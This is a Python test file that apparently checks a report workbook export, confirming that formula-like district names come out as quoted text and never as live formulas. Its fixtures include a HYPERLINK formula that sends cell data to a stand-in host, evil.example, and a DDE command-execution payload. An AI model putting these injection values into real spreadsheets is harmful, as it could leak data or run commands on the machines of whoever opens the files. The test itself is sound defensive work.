"""The report workbook: text that looks like a formula is exported as visible text, never a formula."""

import io
import zipfile

from openpyxl import load_workbook

from tests.web.conftest import World, create

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
DISTRICTS = (HYPERLINK, "@SUM(1+1)", "+1+cmd|' /C calc'!A0", "-2+3")


def test_the_report_export_writes_formula_like_text_as_text(world: World) -> None:
    operator = world.login("operator1")
    for district in DISTRICTS:
        create(operator, district=district)
    export = world.login("supervisor").get("/api/reports/export.xlsx")
    assert export.status_code == 200
    with zipfile.ZipFile(io.BytesIO(export.content)) as package:
        sheets = [n for n in package.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in package.read(n) or b"<f " in package.read(n) for n in sheets)
    book = load_workbook(io.BytesIO(export.content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert {c.data_type for c in cells if isinstance(c.value, str)} == {"s"}
    labels = {cell.value for cell in book["按区县"]["A"][1:]}
    assert labels == {"'" + d for d in DISTRICTS}  # the text comes back whole, with its visible quote
    figures = {row[0].value: row[1].value for row in book["总览"].iter_rows()}
    assert figures["受理工单"] == len(DISTRICTS)  # numbers stay numbers
